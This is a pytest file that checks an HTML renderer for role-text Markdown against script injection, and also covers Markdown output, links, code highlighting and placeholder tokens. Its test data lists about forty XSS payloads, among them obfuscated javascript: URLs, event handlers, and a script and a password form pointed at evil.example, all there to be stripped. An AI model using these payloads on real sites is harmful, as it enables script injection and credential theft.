"""Role text as HTML: what survives, what does not, and where facts stand in it."""

import re

import pytest
from bs4 import BeautifulSoup, Tag
from hypothesis import given
from hypothesis import strategies as st
from pygments.lexers import get_all_lexers

from rolebook.facts.browser import scheme_of
from rolebook.facts.token import TOKEN, Place, token
from rolebook.render.text import block_html, inline_html

X, IN_URL, IN_SLUG = token("X"), token("X", Place.URL), token("X", Place.SLUG)

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<svg><script>alert(1)</script></svg>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onclick='alert(1)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:text/html,x)",
    "<javascript:alert(1)>",
    f"<a href='java{X}script:alert(1)'>x</a>",
    f"[x](java{X}script:alert(1))",
    f"[x]({X}:alert(1))",
    f"![x]({X}script:alert(1))",
    "<iframe src='https://evil.example'></iframe>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<input type=text value=x>",
    "<input type='checkbox' onchange=alert(1)>",
    "<object data=x></object><embed src=x><link rel=stylesheet href=x><meta http-equiv=refresh content=0><base href=x>",
    "<a id=x name=y class=rb-card>x</a>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<!-- <script> --><b>x",
    "<template><script>x</script></template>",
    "<plaintext>",
]
_TAGS = {
    "script",
    "style",
    "iframe",
    "form",
    "button",
    "object",
    "embed",
    "link",
    "meta",
    "base",
    "svg",
    "math",
}
_TAGS |= {"template", "plaintext", "textarea", "select"}
_SCHEME = re.compile(r"^[\x00-\x20]*(?:javascript|vbscript|data):", re.IGNORECASE)


def elements(rendered: str) -> list[Tag]:
    """Return every element of an HTML text."""
    return list(BeautifulSoup(rendered, "html.parser").find_all(True))


def assert_harmless(rendered: str) -> None:
    """Assert that nothing in an HTML text runs, frames, submits or restyles."""
    for element in elements(rendered):
        assert element.name not in _TAGS
        assert not [
            name for name in element.attrs if name.startswith("on") or name in ("style", "id", "name")
        ]
        for name in ("href", "src"):
            address = str(element.get(name, ""))
            scheme = re.sub(r"[\t\n\r]", "", address)
            assert not _SCHEME.match(scheme)
            assert "\ue0f0" not in scheme.partition(":")[0] or ":" not in scheme
        assert element.name != "input" or element.get("type") == "checkbox"


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack(text: str) -> None:
    """Neither a script nor anything that acts like one gets onto a page, in a sentence or on its own."""
    assert_harmless(inline_html(text))
    assert_harmless(inline_html(f"Know *this*: {text}"))
    assert_harmless(block_html(text))
    assert_harmless(block_html(f"- {text}\n\n> {text}\n"))


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "\n", "\n\n", "`", "**", "[", "](", ")", "<", ">", "'", '"', "- ", "|"])
    )
)
def test_attacks_put_together(pieces: list[str]) -> None:
    """Nor do several, broken up by markup."""
    text = "".join(pieces)
    assert_harmless(inline_html(text))
    assert_harmless(block_html(text))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Plain text", "Plain text"),
        ("AT&T, 1 < 2, \"so\" & 'so'", "AT&amp;T, 1 &lt; 2, &quot;so&quot; &amp; 'so'"),
        ("**bold** *it* `code`", "<strong>bold</strong> <em>it</em> <code>code</code>"),
        ("~~gone~~", "<s>gone</s>"),
        ("H<sub>2</sub>O x<sup>2</sup>", "H<sub>2</sub>O x<sup>2</sup>"),
        ("a <kbd>Esc</kbd><br>b", "a <kbd>Esc</kbd><br>b"),
        (
            "<https://x.example/a?b=1&c=2>",
            '<a href="https://x.example/a?b=1&amp;c=2">https://x.example/a?b=1&amp;c=2</a>',
        ),
        ("see https://x.example/a.", 'see <a href="https://x.example/a">https://x.example/a</a>.'),
        ("ask me@x.com", 'ask <a href="mailto:me@x.com">me@x.com</a>'),
        ('[x](https://x.example "t")', '<a href="https://x.example" title="t">x</a>'),
        (
            "[call](tel:+4930) [mail](mailto:a@x.example)",
            '<a href="tel:+4930">call</a> <a href="mailto:a@x.example">mail</a>',
        ),
        ("![a chart](<handbook:assets/x.png>)", '<img src="handbook:assets/x.png" alt="a chart">'),
        ("C++ & C#", "C++ &amp; C#"),
        ("snake_case_name and 2*3*4", "snake_case_name and 2<em>3</em>4"),
    ],
)
def test_inline_markdown(text: str, expected: str) -> None:
    """A sentence has emphasis, code, links, images and a little HTML."""
    assert inline_html(text) == expected


@pytest.mark.parametrize(
    "name", ["ASP.NET Core", "README.md", "deploy.sh", "Socket.io", "Node.js", "main.rs", "e.g.this"]
)
def test_names_with_a_dot_are_no_links(name: str) -> None:
    """What merely looks like a domain is a tool or a file."""
    assert inline_html(name) == name


@pytest.mark.parametrize(
    "code", ["${{ secrets.X }}", "{{ .Values.x }}", "{% raw %}", "{#id}", "${#a[@]}", "{{< x >}}"]
)
def test_template_languages(code: str) -> None:
    """A spec is no program: other languages' braces stay byte for byte, in prose and in code."""
    for rendered in (
        inline_html(f"a {code} b"),
        inline_html(f"`{code}`"),
        block_html(f"a {code} b"),
        block_html(f"```\n{code}\n```"),
        block_html(f"```yaml\nrun: {code}\n```"),
        block_html(f"    {code}"),
    ):
        assert code in BeautifulSoup(rendered, "html.parser").text


def test_block_markdown() -> None:
    """Tables, task lists, disclosures and definition of cells survive."""
    table = block_html("| A | B |\n|:--|--:|\n| 1 | 2 \\| 3 |\n")
    assert [cell.text for cell in BeautifulSoup(table, "html.parser").find_all(["th", "td"])] == [
        "A",
        "B",
        "1",
        "2 | 3",
    ]
    assert [cell.get("align") or cell.get("style") for cell in elements(table) if cell.name == "th"] == [
        None,
        None,
    ]
    assert block_html("<details><summary>More</summary>\n\n**text**\n\n</details>") == (
        "<details><summary>More</summary>\n<p><strong>text</strong></p>\n</details>"
    )
    boxes = [box.attrs for box in elements(block_html("- [ ] one\n- [x] two\n")) if box.name == "input"]
    assert [("checked" in box, "disabled" in box, box["type"]) for box in boxes] == [
        (False, True, "checkbox"),
        (True, True, "checkbox"),
    ]


def test_headings_stand_below_those_of_the_page() -> None:
    """A heading in prose never outranks the section it is in."""
    levels = [
        element.name for element in elements(block_html("# a\n\n## b\n\n#### c\n\n##### d\n\n###### e\n"))
    ]
    assert levels == ["h4", "h4", "h4", "h5", "h6"]


def test_code_is_highlighted() -> None:
    """A language that is known has its words marked; one that is not stays as it is."""
    assert '<span class="k">def</span>' in block_html("```python\ndef f(): ...\n```")
    assert (
        block_html("```nonsense\na < b\n```")
        == '<div class="highlight"><pre><code>a &lt; b\n</code></pre></div>'
    )


@pytest.mark.parametrize(
    "language", ["", "python", "yaml", "bash", "json", "html", "js", "sql", "go", "toml", "nonsense"]
)
def test_facts_in_code(language: str) -> None:
    """A fact in code stays whole, whatever a lexer thinks of it."""
    code = f'name = {X} "{token("OTHER_1")}" FACT {X}\n'
    rendered = block_html(f"```{language}\n{code}```")
    assert BeautifulSoup(rendered, "html.parser").text.strip() == code.strip()
    assert (rendered.count(X), rendered.count(token("OTHER_1"))) == (2, 1)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"Ask {X}", f"Ask {X}"),
        (f"**{X}** and *{X}*", f"<strong>{X}</strong> and <em>{X}</em>"),
        (f"`{X}`", f"<code>{X}</code>"),
        (f"[{X}]({X})", f'<a href="{IN_URL}">{X}</a>'),
        (
            f"[a](https://x.example/{X}?q={X}#{X})",
            f'<a href="https://x.example/{IN_URL}?q={IN_URL}#{IN_URL}">a</a>',
        ),
        (f"[a](#about-{X})", f'<a href="#about-{IN_SLUG}">a</a>'),
        (f"[a](<handbook:how.md#{X}>)", f'<a href="handbook:how.md#{IN_SLUG}">a</a>'),
        (f"[a](https://{X}.example/{X})", f'<a href="https://{IN_URL}.example/{IN_URL}">a</a>'),
        (f"<https://{X}.example>", f'<a href="https://{IN_URL}.example">https://{X}.example</a>'),
        (f"https://{X}.example", f'<a href="https://{IN_URL}.example">https://{X}.example</a>'),
        (f"[a](mailto:{X})", f'<a href="mailto:{IN_URL}">a</a>'),
        (f'[a](https://x.example "{X}")', f'<a href="https://x.example" title="{X}">a</a>'),
        (f"![{X}](handbook:assets/{X}.png)", f'<img src="handbook:assets/{IN_URL}.png" alt="{X}">'),
        (f"<abbr title='{X}'>a</abbr>", f'<abbr title="{X}">a</abbr>'),
        (f"<a href='{X}'>a</a>", f'<a href="{IN_URL}">a</a>'),
        (f"https://x.example/{X}", f'<a href="https://x.example/{IN_URL}">https://x.example/{X}</a>'),
        (f"<{X}>", f'<a href="{IN_URL}">{X}</a>'),
        (
            f"see <{X}/a?b=1> and `<{X}>`",
            f'see <a href="{IN_URL}/a?b=1">{X}/a?b=1</a> and <code>&lt;{X}&gt;</code>',
        ),
        (f"<{X} a> <b{X}>", f"&lt;{X} a&gt; &lt;b{X}&gt;"),
        (f"<https://x.example/{X}>", f'<a href="https://x.example/{IN_URL}">https://x.example/{X}</a>'),
    ],
)
def test_facts_stand_in_their_places(text: str, expected: str) -> None:
    """In text, in an address and in an anchor a value is escaped differently: the token says where it is."""
    assert inline_html(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![A chart](https://x.example/a.png)", '<a href="https://x.example/a.png">A chart</a>'),
        ("![](//x.example/a.png)", '<a href="//x.example/a.png">//x.example/a.png</a>'),
        ("[![Build](https://x.example/b.svg)](https://x.example)", '<a href="https://x.example">Build</a>'),
        ('<img src="https://x.example/a.png" alt="A chart">', '<img alt="A chart">'),
        (f"![Team]({X})", f'<a href="{IN_URL}">Team</a>'),
    ],
)
def test_no_picture_comes_from_another_host(text: str, expected: str) -> None:
    """A picture elsewhere is a link: a page of the handbook asks no other host for anything."""
    assert inline_html(text) == expected


@given(st.text("\t\n\r \x00\x01\x0b", max_size=3), st.text("\t\n\r", max_size=2), st.sampled_from("'\""))
def test_no_link_is_a_script(before: str, within: str, quote: str) -> None:
    """However a script's address is spelled, it is read as browsers read it, and left out."""
    spelled = "".join(f"&#{ord(character)};" for character in f"{before}jav{within}ascript")
    for address in (f"{before}Java{within}Script:f()", f"{spelled}:f()"):
        found = BeautifulSoup(block_html(f"<a href={quote}{address}{quote}>a</a>"), "html.parser").find("a")
        assert not isinstance(found, Tag) or scheme_of(str(found.get("href", ""))) == ""


_PARTS = [
    "0FAC",
    "TQZ",
    "0FACTQZ",
    "FACT",
    "Q",
    "Z",
    X,
    token("Y"),
    "<!-- -->",
    "<b></b>",
    "<foo>",
    "&#84;",
    "\u200b",
    "`",
    "\n",
]


@given(st.lists(st.sampled_from(_PARTS), max_size=12).map("".join))
def test_no_text_makes_a_fact(text: str) -> None:
    """What stands for a fact while text is cleaned comes of facts alone, whatever vanishes or is decoded."""
    before, after = TOKEN.findall(text), TOKEN.findall(block_html(text))
    assert set(after) <= set(before)
    assert len(after) <= len(before)
    assert not re.search("0FACT[A-P]{64}", block_html(text))


@pytest.mark.parametrize("language", [names[0] for _, names, *_ in get_all_lexers() if names])
def test_a_fact_in_code_of_any_language(language: str) -> None:
    """Colours never break a fact, nor does a fact the colours of code that can have any."""
    code = f'x = {X}.a\n{X}: "{token("Y")}" FACTQZ\n'
    found = BeautifulSoup(block_html(f"```{language}\n{code}```"), "html.parser").get_text()
    assert TOKEN.findall(found) == TOKEN.findall(code)
    assert "FACTQZ" in found
    assert not re.search("FACT[A-P]{64}", found)
